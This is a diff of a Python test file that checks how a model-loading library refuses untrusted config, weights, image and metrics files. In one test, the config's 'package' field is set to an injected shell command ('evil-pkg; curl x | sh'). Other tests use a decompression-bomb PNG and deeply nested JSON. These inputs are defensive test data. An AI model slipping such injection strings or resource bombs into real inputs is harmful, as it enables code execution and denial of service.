@@ -14,7 +14,7 @@ from PIL import Image
 from safetensors import SafetensorError
 from safetensors.torch import save_file
 
-from conftest import FAIR, small_spec
+from conftest import FAIR
 from fair_core import hub, report
 from fair_core.checkpoint import (
     MAX_HEADER_BYTES,
@@ -26,25 +26,15 @@ from fair_core.checkpoint import (
 from fair_core.errors import MAX_MESSAGE_CHARS, FairError
 from fair_core.hub import MAX_CONFIG_BYTES, from_pretrained
 from fair_core.report import comparison_rows
-from fair_core.runner import run
 from fair_core.spec import MAX_SPEC_BYTES, parse_spec, read_spec_file
 from fair_core.untrusted import quote
 
 ONE_GB_KB = 2**20  # ru_maxrss is in KiB on Linux
 
 
-@pytest.fixture(scope="module")
-def trained(tmp_path_factory):
-    out = tmp_path_factory.mktemp("untrusted") / "run"
-    spec = small_spec(out, train={"epochs": 1}, eval={"bootstrap": 0},
-                      data={"params": {"train_size": 128, "val_size": 16, "test_size": 32, "image_size": 16}})
-    run(parse_spec(spec))
-    return out
-
-
-def copy_with_config(trained, tmp_path, change):
+def copy_with_config(tiny_run, tmp_path, change):
     folder = tmp_path / "model"
-    shutil.copytree(trained, folder)
+    shutil.copytree(tiny_run, folder)
     config = json.loads((folder / "config.json").read_text())
     config = change(config)
     if isinstance(config, bytes):
@@ -113,26 +103,26 @@ def set_at(path, value):
     (lambda c: '{"model": ' * 5000, ["config.json", "nested too deeply"]),
     (lambda c: b"\xff not utf8", ["config.json", "not UTF-8"]),
 ])
-def test_malformed_config_json_is_one_line_naming_the_field(trained, tmp_path, change, needles):
-    folder = copy_with_config(trained, tmp_path, change)
+def test_malformed_config_json_is_one_line_naming_the_field(tiny_run, tmp_path, change, needles):
+    folder = copy_with_config(tiny_run, tmp_path, change)
     with pytest.raises(FairError) as error:
         from_pretrained(folder)
     one_line(error, *needles)
 
 
-def test_config_bounds_fail_in_milliseconds_and_little_memory_in_fair_predict(trained, tmp_path):
+def test_config_bounds_fail_in_milliseconds_and_little_memory_in_fair_predict(tiny_run, tmp_path):
     image = tmp_path / "x.png"
     Image.new("RGB", (40, 40)).save(image)
     for name, change in (("size", set_at(["preprocessing", "image_size"], 12000)),
                          ("classes", set_at(["num_classes"], 3e7))):
-        folder = copy_with_config(trained, tmp_path / name, change)
+        folder = copy_with_config(tiny_run, tmp_path / name, change)
         code, stderr, peak_kb, seconds = run_measured(*FAIR, "predict", str(folder), str(image))
         assert_exit_2_one_line(code, stderr, "config.json")
         assert peak_kb < ONE_GB_KB, peak_kb
         assert seconds < 60
 
 
-def test_a_config_the_weights_cannot_back_is_refused_before_building(trained, tmp_path):
+def test_a_config_the_weights_cannot_back_is_refused_before_building(tiny_run, tmp_path):
     """num_classes within the bound but not what the weights hold: refused from the weights' header
     (the architecture is built on the meta device first)."""
     def more_classes(config):
@@ -140,15 +130,15 @@ def test_a_config_the_weights_cannot_back_is_refused_before_building(trained, tm
         config["data"]["class_names"] = [f"c{i}" for i in range(5000)]
         return config
 
-    folder = copy_with_config(trained, tmp_path, more_classes)
+    folder = copy_with_config(tiny_run, tmp_path, more_classes)
     with pytest.raises(FairError) as error:
         from_pretrained(folder)
     one_line(error, "model.safetensors", "shape", "5000")
 
 
-def test_config_json_that_is_a_fifo_or_too_large_is_refused_before_reading(trained, tmp_path):
+def test_config_json_that_is_a_fifo_or_too_large_is_refused_before_reading(tiny_run, tmp_path):
     fifo = tmp_path / "fifo"
-    shutil.copytree(trained, fifo)
+    shutil.copytree(tiny_run, fifo)
     (fifo / "config.json").unlink()
     os.mkfifo(fifo / "config.json")
     image = tmp_path / "x.png"
@@ -157,7 +147,7 @@ def test_config_json_that_is_a_fifo_or_too_large_is_refused_before_reading(train
     assert_exit_2_one_line(result.returncode, result.stderr, "config.json", "not a regular file")
 
     large = tmp_path / "large"
-    shutil.copytree(trained, large)
+    shutil.copytree(tiny_run, large)
     with open(large / "config.json", "ab") as handle:
         handle.truncate(MAX_CONFIG_BYTES + 1)
     with pytest.raises(FairError) as error:
@@ -165,23 +155,23 @@ def test_config_json_that_is_a_fifo_or_too_large_is_refused_before_reading(train
     one_line(error, "config.json", "8 MiB", "MAX_CONFIG_BYTES")
 
 
-def test_the_package_field_never_chooses_what_to_pip_install(trained, tmp_path):
-    folder = copy_with_config(trained, tmp_path / "a", set_at(["method"], {"name": "evil", "params": {},
+def test_the_package_field_never_chooses_what_to_pip_install(tiny_run, tmp_path):
+    folder = copy_with_config(tiny_run, tmp_path / "a", set_at(["method"], {"name": "evil", "params": {},
                                                                              "package": "evil-pkg; curl x | sh"}))
     with pytest.raises(FairError) as error:
         from_pretrained(folder)
     message = one_line(error, "unknown method 'evil'", "available:")
     assert "evil-pkg" not in message and "pip install" not in message
-    folder = copy_with_config(trained, tmp_path / "b", set_at(["method"], {"name": "brand_new", "params": {},
+    folder = copy_with_config(tiny_run, tmp_path / "b", set_at(["method"], {"name": "brand_new", "params": {},
                                                                              "package": "fair_methods"}))
     with pytest.raises(FairError) as error:
         from_pretrained(folder)
     one_line(error, "brand_new", "pip install -U fair-methods")
 
 
-def test_weights_with_foreign_or_reshaped_tensors_are_refused_by_name(trained, tmp_path):
+def test_weights_with_foreign_or_reshaped_tensors_are_refused_by_name(tiny_run, tmp_path):
     folder = tmp_path / "model"
-    shutil.copytree(trained, folder)
+    shutil.copytree(tiny_run, folder)
     save_file({"x" * 5000: torch.zeros(3)}, str(folder / "model.safetensors"))
     with pytest.raises(FairError) as error:
         from_pretrained(folder)
@@ -192,11 +182,11 @@ def test_weights_with_foreign_or_reshaped_tensors_are_refused_by_name(trained, t
     one_line(error, "model.safetensors", "MAX_HEADER_BYTES")
 
 
-def test_fair_predict_refuses_a_pixel_bomb_and_prints_names_as_text(trained, tmp_path):
+def test_fair_predict_refuses_a_pixel_bomb_and_prints_names_as_text(tiny_run, tmp_path):
     bomb = tmp_path / "bomb.png"
     Image.new("L", (12000, 12000)).save(bomb, optimize=True)  # 17 KB, 144 Mpx
     assert bomb.stat().st_size < 200_000
-    code, stderr, peak_kb, _ = run_measured(*FAIR, "predict", str(trained), str(bomb))
+    code, stderr, peak_kb, _ = run_measured(*FAIR, "predict", str(tiny_run), str(bomb))
     assert_exit_2_one_line(code, stderr, "bomb.png")
     assert peak_kb < ONE_GB_KB, peak_kb
     big = tmp_path / "big.png"
@@ -205,7 +195,7 @@ def test_fair_predict_refuses_a_pixel_bomb_and_prints_names_as_text(trained, tmp
         hub.read_image(big)
     one_line(error, "4100x4100", "MAX_PREDICT_PIXELS")
 
-    folder = copy_with_config(trained, tmp_path, set_at(["data", "class_names"], ["[/x]", "[bold]b"]))
+    folder = copy_with_config(tiny_run, tmp_path, set_at(["data", "class_names"], ["[/x]", "[bold]b"]))
     image = tmp_path / "x.png"
     Image.new("RGB", (16, 16)).save(image)
     result = subprocess.run([*FAIR, "predict", str(folder), str(image)], capture_output=True, text=True, timeout=120,
@@ -418,22 +408,22 @@ def test_a_full_disk_is_an_oserror_on_every_safetensors_write(tmp_path, monkeypa
     (b"\xff", ["metrics.json", "UTF-8"]),
     ("[" * 100_000, ["metrics.json", "nested too deeply"]),
 ])
-def test_fair_compare_on_malformed_metrics_is_one_line_naming_the_file(trained, tmp_path, content, needles):
+def test_fair_compare_on_malformed_metrics_is_one_line_naming_the_file(tiny_run, tmp_path, content, needles):
     folder = tmp_path / "run"
     folder.mkdir()
     if content is None:
-        metrics = json.loads((trained / "metrics.json").read_text())
+        metrics = json.loads((tiny_run / "metrics.json").read_text())
         metrics["overall"]["accuracy"] = "high"
         content = json.dumps(metrics)
     (folder / "metrics.json").write_bytes(content if isinstance(content, bytes) else content.encode())
     with pytest.raises(FairError) as error:
-        comparison_rows([trained, folder])
+        comparison_rows([tiny_run, folder])
     one_line(error, *needles)
-    result = subprocess.run([*FAIR, "compare", str(trained), str(folder)], capture_output=True, text=True, timeout=120)
+    result = subprocess.run([*FAIR, "compare", str(tiny_run), str(folder)], capture_output=True, text=True, timeout=120)
     assert_exit_2_one_line(result.returncode, result.stderr, "metrics.json")
 
 
-def test_fair_compare_refuses_huge_or_special_metrics_files_and_shows_names_as_text(trained, tmp_path):
+def test_fair_compare_refuses_huge_or_special_metrics_files_and_shows_names_as_text(tiny_run, tmp_path):
     huge = tmp_path / "huge"
     huge.mkdir()
     with open(huge / "metrics.json", "wb") as handle:
@@ -446,10 +436,10 @@ def test_fair_compare_refuses_huge_or_special_metrics_files_and_shows_names_as_t
         assert_exit_2_one_line(result.returncode, result.stderr, "metrics.json", needle)
     marked = tmp_path / "[bold]marked"
     marked.mkdir()
-    metrics = json.loads((trained / "metrics.json").read_text())
+    metrics = json.loads((tiny_run / "metrics.json").read_text())
     metrics["fairness"]["[/x]"] = 0.5
     (marked / "metrics.json").write_text(json.dumps(metrics))
-    result = subprocess.run([*FAIR, "compare", str(trained), str(marked)], capture_output=True, text=True, timeout=120,
+    result = subprocess.run([*FAIR, "compare", str(tiny_run), str(marked)], capture_output=True, text=True, timeout=120,
                             env={**os.environ, "COLUMNS": "300"})
     assert result.returncode == 0, result.stderr
     assert "[bold]marked" in result.stdout and "[/x]" in result.stdout
